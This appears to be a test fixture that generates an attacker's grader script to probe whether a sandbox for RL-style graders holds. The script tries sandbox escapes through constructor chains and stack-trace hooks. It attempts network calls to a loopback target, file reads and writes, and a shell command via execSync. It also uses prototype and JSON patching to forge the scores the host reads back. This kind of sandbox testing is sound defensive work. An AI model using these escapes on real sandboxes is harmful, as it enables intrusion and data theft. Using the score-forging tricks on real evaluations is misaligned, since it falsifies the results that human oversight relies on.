/**
 * Grader sources an attacker would share, for the red-team tests. Each tries
 * every route out we could name: the network (every API a browser or Node
 * offers), the origin's storage, the host realm through constructors, errors,
 * promises and stack-trace hooks, and the host's reading of the result
 * (patched prototypes, forged JSON, absurd numbers, floods of text).
 *
 * `target` is a loopback URL whose listener must never see a connection;
 * `marker` a file the grader must never read (and `marker + ".pwned"` one it
 * must never create). A grader that got anything out scores 1, not 0.5.
 */
export function escapeAttempts(target: string, marker: string): string {
  const t = JSON.stringify(target);
  const m = JSON.stringify(marker);
  return String.raw`
var T = ${t}, M = ${m};
var attempts = [];
// Set only if something outside the sandbox answered: grade() then scores 1 instead of 0.5.
var leak = null;
var touched = ${JSON.stringify(marker + '.pwned')};
function attempt(name, f) {
  try {
    var r = f();
    if (r && typeof r.then === 'function') r.then(function () { attempts.push(name + ':resolved'); }, function (e) { attempts.push(name + ':rejected'); escapeVia(e); });
  } catch (e) { escapeVia(e); }
}
// Anything created outside the sandbox would hand over the host's Function.
function escapeVia(v) {
  try { var F = v.constructor.constructor; var g = F('return this')(); tryAll(g, 'via-error'); } catch (e) {}
  try { var P = Object.getPrototypeOf(v); if (P && P.constructor) tryAll(P.constructor.constructor('return this')(), 'via-proto'); } catch (e) {}
}
var tried = {};
function tryAll(g, how) {
  // Each route once per global found: errors raised by the attempts lead back here.
  if (!g || tried[how] === g) return;
  tried[how] = g;
  var u = T + how;
  attempt(how + '-fetch', function () { return g.fetch(u + '/fetch'); });
  attempt(how + '-process', function () { leak = g.process.getBuiltinModule('fs').readFileSync(M, 'utf8'); });
  attempt(how + '-write', function () { g.process.getBuiltinModule('fs').writeFileSync(touched, 'x'); leak = 'wrote'; });
  attempt(how + '-child', function () { leak = g.process.getBuiltinModule('child_process').execSync('id; touch ' + touched); });
  attempt(how + '-binding', function () { leak = g.process.binding('fs'); });
  attempt(how + '-net', function () { return g.process.getBuiltinModule('net').connect(Number(new URL(T).port), '127.0.0.1'); });
  attempt(how + '-require', function () { leak = g.require('fs').readFileSync(M); });
  attempt(how + '-import', function () { return g.eval('import(' + JSON.stringify(u + '/import.js') + ')'); });
  attempt(how + '-ws', function () { return new g.WebSocket(u.replace('http', 'ws') + '/ws'); });
  attempt(how + '-wss', function () { return new g.WebSocketStream(u.replace('http', 'ws') + '/wss'); });
  attempt(how + '-es', function () { return new g.EventSource(u + '/es'); });
  attempt(how + '-xhr', function () { var x = new g.XMLHttpRequest(); x.open('GET', u + '/xhr'); x.send(); return x; });
  attempt(how + '-beacon', function () { return g.navigator.sendBeacon(u + '/beacon', 'x'); });
  attempt(how + '-importScripts', function () { return g.importScripts(u + '/is.js'); });
  attempt(how + '-worker', function () { return new g.Worker(u + '/w.js'); });
  attempt(how + '-sharedworker', function () { return new g.SharedWorker(u + '/sw.js'); });
  attempt(how + '-webtransport', function () { return new g.WebTransport(u.replace('http', 'https') + '/wt'); });
  attempt(how + '-rtc', function () { var pc = new g.RTCPeerConnection({ iceServers: [{ urls: 'stun:' + new URL(T).host }] }); pc.createDataChannel('x'); return pc.createOffer().then(function (o) { return pc.setLocalDescription(o); }); });
  attempt(how + '-caches', function () { return g.caches.open('evil').then(function (c) { return c.put('index.html', new g.Response('<script>evil()</script>')); }); });
  attempt(how + '-caches-add', function () { return g.caches.open('evil2').then(function (c) { return c.add(u + '/cache-add'); }); });
  attempt(how + '-idb', function () { return g.indexedDB.open('evil-db'); });
  attempt(how + '-opfs', function () { return g.navigator.storage.getDirectory().then(function (d) { return d.getFileHandle('evil.txt', { create: true }); }); });
  attempt(how + '-localStorage', function () { return g.localStorage.setItem('evil', '1'); });
  attempt(how + '-cookie', function () { g.document.cookie = 'evil=1'; });
  attempt(how + '-sw', function () { return g.navigator.serviceWorker.register(u + '/evil-sw.js'); });
  attempt(how + '-broadcast', function () { return new g.BroadcastChannel('rft-playground').postMessage('evil'); });
  attempt(how + '-postMessage', function () { for (var i = 0; i < 100000; i++) g.postMessage({ flood: i }); });
  attempt(how + '-image', function () { var i = new g.Image(); i.src = u + '/img'; });
  attempt(how + '-open', function () { return g.open(u + '/window'); });
  attempt(how + '-location', function () { g.location.href = u + '/nav'; });
  attempt(how + '-wasm', function () { return g.WebAssembly.compileStreaming(g.fetch(u + '/x.wasm')); });
  attempt(how + '-locks', function () { return g.navigator.locks.request('evil', function () { return new Promise(function () {}); }); });
}
// Directly, from the grader's own global.
tryAll(globalThis, 'direct');
try { tryAll(Function('return this')(), 'function-this'); } catch (e) {}
try { tryAll((0, eval)('this'), 'indirect-eval'); } catch (e) {}
// Errors and promises the engine creates.
attempt('dynamic-import', function () { return import(T + 'dyn.js'); });
try { null.x; } catch (e) { escapeVia(e); }
try { undefinedName; } catch (e) { escapeVia(e); }
try { new Array(-1); } catch (e) { escapeVia(e); }
escapeVia(Promise.resolve());
escapeVia(new Error('x'));
escapeVia(globalThis);
// Stack-trace hooks (V8's) and getters the host might call.
try { Error.prepareStackTrace = function (e, frames) { tryAll(frames[0] && frames[0].getThis && frames[0].getThis(), 'stack-frame'); return 'forged'; }; } catch (e) {}
try { Error.captureStackTrace = function () {}; } catch (e) {}
try { Object.defineProperty(Object.prototype, 'then', { get: function () { tryAll(this, 'then-getter'); return undefined; }, configurable: true }); } catch (e) {}
// What the host reads back.
try { Object.prototype.toJSON = function () { return { scores: ['NaN'], failed: 'all' }; }; } catch (e) {}
try { Array.prototype.toJSON = function () { return ['forged']; }; } catch (e) {}
try { JSON.stringify = function () { return '{"scores":[1e308],"failed":[],"firstError":null}'; }; } catch (e) {}
try { JSON.parse = function () { return { texts: [], items: [], itemOf: [], offset: 0 }; }; } catch (e) {}
try { Object.defineProperty(Array.prototype, '0', { set: function () {}, get: function () { return 'forged'; }, configurable: true }); } catch (e) {}
try { String.prototype.slice = function () { return 'x'.repeat(1e6); }; } catch (e) {}

function grade(sample, item) {
  tryAll(globalThis, 'in-grade');
  try { sample.constructor.constructor('return this')(); } catch (e) { escapeVia(e); }
  try { escapeVia(sample); escapeVia(item); } catch (e) {}
  return leak === null ? 0.5 : 1;
}
`;
}
